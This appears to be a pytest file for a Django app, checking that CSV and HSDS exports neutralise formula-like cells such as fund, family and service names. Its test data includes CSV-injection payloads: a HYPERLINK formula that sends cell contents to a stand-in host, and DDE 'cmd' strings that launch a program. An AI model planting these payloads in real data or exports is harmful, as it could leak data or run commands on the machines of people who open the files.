"""Every CSV cell neutralised, every column, in every export: nothing a person typed reaches
a spreadsheet as a formula (core/spreadsheet.py, decision 0023)."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from core import spreadsheet
from core.spreadsheet import cell, read_back

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(typed):
    assert cell(typed) == "'" + typed
    assert read_back(cell(typed)) == typed


@pytest.mark.parametrize(
    "value",
    ["-25.00", "+1 512 555 0100", "2026-12-01", "12:30", "Eastside Auto", "", "1,234.50", "'"],
)
def test_numbers_dates_phones_and_plain_words_are_left_as_they_are(value):
    assert cell(value) == value
    assert read_back(value) == value


def test_numbers_the_program_writes_stay_numbers():
    for number in (-25, Decimal("-89.99"), 3.5, 0):
        assert cell(number) == number
    assert cell(None) == ""


def test_every_column_of_a_row_is_neutralised():
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["=A1", "@B2", "-C3+D4", "-12.50", 7])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'=A1",
        "'@B2",
        "'-C3+D4",
        "-12.50",
        "7",
    ]


@pytest.mark.django_db
def test_the_ledger_csv_writes_a_fund_s_and_a_family_s_names_as_text(
    client_for, coach, finance, partnership
):
    from assistance.models import Fund, Source
    from assistance.services import payment_record, request_create

    fund = Fund.objects.create(
        name='=HYPERLINK("http://evil.example","Fund")', source=Source.DONOR, budget=500
    )
    family = partnership.birth_family
    family.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    family.save()
    made = request_create(
        actor=coach,
        partnership=partnership,
        data={
            "need": "utilities",
            "amount": "50",
            "payee_kind": "vendor",
            "payee": "+Austin Energy",
            "due_on": timezone.localdate(),
            "purpose": "The heat.",
        },
    )
    made.status, made.fund = "approved", fund
    made.save()
    payment_record(
        actor=finance,
        assistance_request=made,
        method="check",
        number="-1",
        paid_on=timezone.localdate(),
        key="k" * 32,
    )
    text = (
        client_for(finance)
        .get(reverse("assistance:report_csv"), {"year": timezone.localdate().year})
        .content.decode("utf-8-sig")
    )
    (_header, row) = list(csv.reader(io.StringIO(text)))
    assert row[1] == "'" + fund.name
    assert row[2] == "'" + family.name
    assert row[4] == "'+Austin Energy"
    assert row[6] == "-1" and row[7] == "50.00"  # numbers stay numbers


@pytest.mark.django_db
def test_the_hsds_package_neutralises_names_and_reads_them_back_as_they_were():
    from directory.hsds import exporter
    from directory.models import Organization, Service
    from directory.services import directory_import

    name = '=HYPERLINK("http://evil.example","Call")'
    organization = Organization.objects.create(name="-Eastside+Clinic")
    Service.objects.create(organization=organization, name=name, description="@once")
    package = exporter.export_package()
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        services = opened.read("services.csv").decode()
        organizations = opened.read("organizations.csv").decode()
    assert f"'{name}".replace('"', '""') in services and "'@once" in services
    assert "'-Eastside+Clinic" in organizations
    Service.objects.all().delete()
    Organization.objects.all().delete()
    directory_import(name="export.zip", data=package)
    assert Service.objects.get().name == name
    assert Organization.objects.get().name == "-Eastside+Clinic"
